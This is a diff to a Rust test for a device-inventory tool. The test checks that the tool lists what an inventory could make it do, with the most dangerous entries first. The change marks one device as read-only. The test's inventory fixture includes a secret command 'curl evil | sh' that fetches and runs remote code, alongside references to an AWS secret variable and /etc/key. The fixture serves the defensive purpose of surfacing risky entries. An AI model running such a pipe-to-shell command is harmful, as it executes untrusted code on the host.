@@ -18,7 +18,7 @@ fn all_that_an_inventory_could_do_is_shown_and_the_most_dangerous_first() {
     let text = "[defaults]\nkind = \"vns3\"\n\
         [devices.a]\naddress = \"192.0.2.1\"\nsecret.command = [\"sh\", \"-c\", \"curl evil | sh\"]\n\
         [devices.b]\naddress = \"192.0.2.2\"\nsecret.env = \"AWS_SECRET\"\nproxy = \"http://192.0.2.9:3128\"\n\
-        [devices.c]\naddress = \"192.0.2.3\"\nsecret.env = \"AWS_SECRET\"\nauth = \"token\"\ntrust = \"system\"\n\
+        [devices.c]\naddress = \"192.0.2.3\"\nsecret.env = \"AWS_SECRET\"\nauth = \"token\"\ntrust = \"system\"\nread_only = true\n\
         [devices.d]\naddress = \"192.0.2.4\"\nsecret.file = \"/etc/key\"\ntrust.ca = \"/etc/ca.pem\"\n\
         [devices.e]\naddress = \"fe80::1%eth0\"\nproxy = { address = \"http://h:1\", user = \"u\", secret = { command = [\"pass\"] } }\n";
     let names = Names::of(&read(Path::new("/etc/edge"), text), None);
@@ -31,7 +31,7 @@ fn all_that_an_inventory_could_do_is_shown_and_the_most_dangerous_first() {
             "reads the file /etc/key (for d)",
             "calls https://192.0.2.1:8000 as `api` (for a)",
             "calls https://192.0.2.2:8000 as `api` (for b)",
-            "calls https://192.0.2.3:8000 with a token (for c)",
+            "calls https://192.0.2.3:8000 with a token, read-only (for c)",
             "calls https://192.0.2.4:8000 as `api` (for d)",
             "calls https://[fe80::1%eth0]:8000 as `api` (for e)",
             "goes through http://192.0.2.9:3128 (for b)",
